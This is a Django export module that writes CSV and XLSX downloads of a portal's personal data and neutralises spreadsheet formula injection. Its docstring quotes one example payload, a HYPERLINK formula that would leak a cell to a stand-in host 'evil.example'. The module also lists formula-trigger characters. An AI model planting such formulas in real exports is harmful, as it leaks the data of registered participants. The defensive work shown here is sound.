"""The one way the portal writes spreadsheets: CSV and XLSX downloads that are safe to open.

Every export goes through here, because exports hold personal data and are opened
by coordinators in Excel or LibreOffice. A participant who registers as
``=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`` must show up as that text, not
as a live formula that leaks the sheet when clicked (OWASP "CSV injection").

- CSV: a text cell that begins with ``=``, ``+``, ``-``, ``@``, tab, carriage return
  or line feed (or their full-width forms, which some spreadsheets also accept) is
  written with a leading apostrophe, as OWASP and ``defusedcsv`` do.
- XLSX: every text cell is stored as a string cell (openpyxl would otherwise make a
  formula of anything that starts with ``=``), with Excel's "quote prefix" so editing
  the cell keeps it text; characters that XML cannot hold (NUL and other C0
  controls) are removed instead of crashing the export.

Numbers, dates and ``None`` are written as they are: they cannot be formulas. In CSV,
numbers with decimals are written the way the language's spreadsheets read them: a
Norwegian Excel or LibreOffice reads "12,5" as a number and "12.5" as text (or the
date 12 May), so the Norwegian CSV has a decimal comma, the English one a point
(the cells are separated by semicolons, so the comma is safe). XLSX holds real numbers.

Usage (from an admin action or a view)::

    from portal.exports import csv_response, xlsx_response

    header = ["Navn", "E-post"]
    rows = ((r.name, r.email) for r in registrations)
    return csv_response("deltakere", header, rows)
    return xlsx_response("deltakere", header, rows, sheet_title="Deltakere")

``write_csv`` and ``write_xlsx`` write to any file-like object for files that are
not HTTP responses (a management command, an e-mail attachment).
"""

import csv
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

from django.http import HttpResponse
from django.utils.formats import number_format
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Characters that make a spreadsheet read a cell as a formula (or start one after
# the cell is split at a tab or line break), including the full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet evaluates."""
    if value is None:
        return ""
    if isinstance(value, float | Decimal) and not isinstance(value, bool):
        return number_format(value, use_l10n=True)
    if not isinstance(value, int | float | str):
        value = str(value)  # lazy translations, dates, decimals
    if is_formula_like(value):
        return "'" + value
    return value


def write_csv(stream: IO[str], header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """Semicolon-separated (what Norwegian Excel expects), with a BOM so æøå survive."""
    stream.write("\ufeff")
    writer = csv.writer(stream, delimiter=";")
    writer.writerow([csv_cell(value) for value in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)


def _xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float):
        return value
    if hasattr(value, "isoformat"):  # dates and times: openpyxl writes them as such
        return value
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def write_xlsx(
    stream: IO[bytes],
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    sheet_title: str = "Ark1",
) -> None:
    """One sheet, header frozen, every text cell a string cell (never a formula)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(sheet_title)[:31]  # Excel's limit
    for row in [header, *rows]:
        sheet.append([_xlsx_value(value) for value in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if is_formula_like(cell.value):
                    cell.quotePrefix = True
    sheet.freeze_panes = "A2"
    workbook.save(stream)


def _attachment(response: HttpResponse, filename: str, extension: str) -> HttpResponse:
    safe = _UNSAFE_FILENAME.sub("-", str(filename)).strip("-.") or "eksport"
    response["Content-Disposition"] = f'attachment; filename="{safe}.{extension}"'
    return response


def csv_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV download; ``filename`` without extension, reduced to safe ASCII."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    write_csv(response, header, rows)
    return _attachment(response, filename, "csv")


def xlsx_response(
    filename: str,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    sheet_title: str = "Ark1",
) -> HttpResponse:
    """An Excel download; ``filename`` without extension, reduced to safe ASCII."""
    response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
    write_xlsx(response, header, rows, sheet_title)
    return _attachment(response, filename, "xlsx")
